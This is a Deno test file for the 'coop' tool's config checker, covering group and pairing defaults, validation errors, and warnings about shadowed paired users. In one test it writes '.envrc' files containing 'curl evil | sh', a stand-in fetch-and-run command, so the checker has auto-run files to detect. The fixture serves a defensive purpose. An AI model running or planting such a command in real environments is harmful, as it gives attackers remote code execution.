/**
 * Config of groups and pairing: `respond` and `[pairing]` defaults and bounds; `coop check`
 * refuses a group ceiling of owner, two groups of one name, and user names in the groups'
 * directory prefix; it looks for auto-run files in groups' and paired people's workspaces too.
 */
import { assertEquals, assertMatch } from "../assert.ts";
import { parseConfig } from "../../src/config/config.ts";
import { availableProbe, checkText } from "../fixtures/check_run.ts";
import { join } from "node:path";
import { runCheck } from "../../src/cli/check_command.ts";
import { openStateDb } from "../../src/state/state_db.ts";
import { PairingStore } from "../../src/state/pairing_store.ts";

const BASE = `
[[users]]
name = "alice"
trust = "owner"
match = ["terminal:default"]
`;

Deno.test("config: groups answer when addressed by default; [pairing] defaults to on, 1h, 20", () => {
  const config = parseConfig(BASE + '[[groups]]\nmatch = ["telegram:-1"]\n', "/x/coop.toml");
  assertEquals(config.groups[0].respond, "mention");
  assertEquals(config.groups[0].ceiling, "familiar");
  assertEquals(config.pairing, { enabled: true, codeTtlMs: 3_600_000, maxPending: 20 });
  const set = parseConfig(
    BASE + '[pairing]\nenabled = false\ncode_ttl = "15m"\nmax_pending = 3\n',
    "/x/coop.toml",
  );
  assertEquals(set.pairing, { enabled: false, codeTtlMs: 900_000, maxPending: 3 });
});

const MISTAKES: ReadonlyArray<[string, string, RegExp]> = [
  [
    "respond with an unknown mode",
    '[[groups]]\nmatch = ["telegram:-1"]\nrespond = "never"\n',
    /groups\[0\]\.respond: expected one of "mention", "all"/,
  ],
  [
    "a code ttl of seconds",
    '[pairing]\ncode_ttl = "30s"\n',
    /pairing\.code_ttl: must be from 1m to 168h/,
  ],
  ["max_pending 0", "[pairing]\nmax_pending = 0\n", /pairing\.max_pending: must be at least 1/],
  ["an unknown pairing key", "[pairing]\nttl = 1\n", /pairing\.ttl: unknown key/],
  [
    "a group ceiling of owner",
    '[[groups]]\nmatch = ["telegram:-1"]\ntrust = "owner"\n',
    /groups\[0\]\.trust: a group's ceiling cannot be "owner"/,
  ],
  [
    "two groups of one name",
    '[[groups]]\nname = "fam"\nmatch = ["telegram:-1"]\n[[groups]]\nname = "fam"\nmatch = ["signal:group:x"]\n',
    /groups\[1\]\.name: "fam" is already the name of groups\[0\]/,
  ],
  [
    "a user named like a group directory",
    '[[users]]\nname = "group-fam"\ntrust = "inner"\n',
    /users\[1\]\.name: "group-fam" starts with "group-"/,
  ],
];

for (const [what, toml, expected] of MISTAKES) {
  Deno.test(`coop check: ${what} is one precise error`, async () => {
    const { code, output } = await checkText(BASE + toml, [], undefined, {});
    assertEquals(code, 1, output);
    assertMatch(output, expected);
    assertEquals(output.split("\n").filter((l) => l.startsWith("error:")).length, 1, output);
  });
}

Deno.test("coop check: auto-run files in a group's and a paired person's workspace are listed", async () => {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "coop-check-people-" }));
  try {
    const file = join(dir, "coop.toml");
    await Deno.writeTextFile(file, BASE + `[agent]\nworkspace = "ws"\nstate_dir = "state"\n`);
    for (const who of ["group-family", "dave"]) {
      await Deno.mkdir(join(dir, "ws", who), { recursive: true });
      await Deno.writeTextFile(join(dir, "ws", who, ".envrc"), "curl evil | sh\n");
    }
    const db = openStateDb(join(dir, "state"));
    const store = new PairingStore(db);
    store.create({ channel: "telegram", sender: "5", aliases: [] }, "ABCD-EFGH", {
      now: Date.now(),
      expiresAt: Date.now() + 60_000,
    }, 5);
    store.approve("ABCD-EFGH", { name: "dave", trust: "familiar" }, Date.now());
    db.close();
    let output = "";
    await runCheck(["--config", file, "--json"], {
      probe: availableProbe,
      write: (t) => output += t,
      env: () => undefined,
    });
    const paths = (JSON.parse(output).autoexec as { path: string }[]).map((f) => f.path).sort();
    assertEquals(paths, [
      join(dir, "ws", "dave", ".envrc"),
      join(dir, "ws", "group-family", ".envrc"),
    ]);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("coop check: a paired person shadowed by a configured user is a warning", async () => {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "coop-check-shadow-" }));
  try {
    const file = join(dir, "coop.toml");
    const users = '[[users]]\nname = "dave"\ntrust = "inner"\nmatch = ["http:dave"]\n' +
      '[[users]]\nname = "erin"\ntrust = "inner"\nmatch = ["telegram:6"]\n';
    await Deno.writeTextFile(file, BASE + users + `[agent]\nstate_dir = "state"\n`);
    const db = openStateDb(join(dir, "state"));
    const store = new PairingStore(db);
    for (const [sender, code, name] of [["5", "AAAA-AAAA", "dave"], ["6", "BBBB-BBBB", "frank"]]) {
      store.create({ channel: "telegram", sender, aliases: [] }, code, {
        now: Date.now(),
        expiresAt: Date.now() + 60_000,
      }, 5);
      store.approve(code, { name, trust: "familiar" }, Date.now());
    }
    db.close();
    let output = "";
    await runCheck(["--config", file], {
      probe: availableProbe,
      write: (t) => output += t,
      env: () => undefined,
    });
    assertMatch(
      output,
      /warning: .*users\[1\]\.name: "dave" is also a paired person \(telegram:5\)/,
    );
    assertMatch(
      output,
      /warning: .*users\[2\]\.match\[0\]: "telegram:6" is also paired person "frank"/,
    );
    assertMatch(output, /paired: dave \(familiar, telegram:5\); frank \(familiar, telegram:6\)/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
